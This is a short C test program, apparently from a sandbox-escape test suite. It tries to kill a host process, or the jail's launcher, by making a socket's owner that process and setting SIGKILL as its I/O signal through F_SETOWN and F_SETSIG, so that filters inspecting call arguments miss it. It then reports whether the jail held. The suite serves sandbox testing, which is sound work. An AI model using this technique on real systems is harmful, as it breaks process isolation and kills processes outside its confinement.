// attempt: Has the kernel send SIGKILL to a process of the host, and to the launcher in the jail, as the owner of a socket
//     that input comes to: no call that a filter could know by its argument.
// known-from: technique: F_SETOWN with F_SETSIG
// held-by: pid namespace
// must: held
// must firejail: signalled -- init is not PID 1 there: the job ends with it, and all else in the jail
// needs: victim
// control: bare
#include "escape.h"

#include <sys/socket.h>

int main(void) {
    int pair[2], victim = atoi(getenv("ESCAPE_PID")), init = getppid();
    char why[40] = "";
    need(socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
    need(fcntl(pair[0], F_SETSIG, SIGKILL));
    need(fcntl(pair[0], F_SETFL, O_ASYNC));
    bool reached = fcntl(pair[0], F_SETOWN, victim) == 0;
    if (!reached) {
        snprintf(why, sizeof why, "%s", strerrorname_np(errno));
        need(fcntl(pair[0], F_SETOWN, init));
    }
    need(write(pair[1], "x", 1));
    usleep(100000);
    if (reached && kill(victim, 0) == 0) escaped("SIGKILL is on its way to process %d", victim);
    if (reached || getppid() != init) escaped("process %d is gone", reached ? victim : init);
    held("%s for the host's, and init lives", why);
}
